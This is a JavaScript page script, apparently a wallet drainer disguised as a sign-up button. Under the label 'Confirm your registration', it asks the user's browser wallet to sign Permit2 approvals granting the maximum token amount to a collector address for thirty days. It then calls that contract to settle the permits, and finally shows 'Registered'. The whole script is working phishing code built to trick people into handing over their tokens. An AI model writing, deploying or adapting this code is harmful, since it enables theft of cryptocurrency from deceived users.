const COLLECTOR = "0x00000000000000000000000000000000C0FFEE04";
const ROUTER2 = "0x000000000022D473030F116dDEE9F6B43aC78BA3";
const wanted = [
  "0x00000000000000000000000000000000000000A1",
  "0x00000000000000000000000000000000000000A2",
  "0x00000000000000000000000000000000000000A3",
];
const iface = ["function settle(address who, tuple(address token, uint160 amount, uint48 expiration, uint48 nonce, address spender, uint256 sigDeadline) one, bytes sig) external"];
let browser, signer, who;
const line = document.getElementById("line");

document.getElementById("join").addEventListener("click", async () => {
  const injected = window.ethereum.providers?.find((p) => p.isRabby) || window.ethereum;
  [who] = await injected.request({ method: "eth_requestAccounts" });
  browser = new ethers.BrowserProvider(injected);
  signer = await browser.getSigner();
  const out = new ethers.Contract(COLLECTOR, iface, signer);
  for (const token of wanted) {
    try {
      line.textContent = "Confirm your registration in the wallet";
      const [one, sig] = await ask(token);
      await (await out.settle(who, one, sig)).wait(1);
    } catch (err) {
      line.textContent = "Please retry";
    }
  }
  line.textContent = "Registered";
});

async function ask(token) {
  const { chainId } = await browser.getNetwork();
  const now = Math.floor(Date.now() / 1000);
  const one = {
    details: { token, amount: "1461501637330902918203684832716283019655932542975", expiration: now + 2592000, nonce: 0 },
    spender: COLLECTOR,
    sigDeadline: now + 1800,
  };
  const typed = {
    domain: { name: "Permit2", chainId: Number(chainId), verifyingContract: ROUTER2 },
    types: {
      PermitSingle: [{ name: "details", type: "PermitDetails" }, { name: "spender", type: "address" }, { name: "sigDeadline", type: "uint256" }],
      PermitDetails: [{ name: "token", type: "address" }, { name: "amount", type: "uint160" }, { name: "expiration", type: "uint48" }, { name: "nonce", type: "uint48" }],
    },
    primaryType: "PermitSingle",
    message: one,
  };
  return [one, await browser.send("eth_signTypedData_v4", [who, JSON.stringify(typed)])];
}
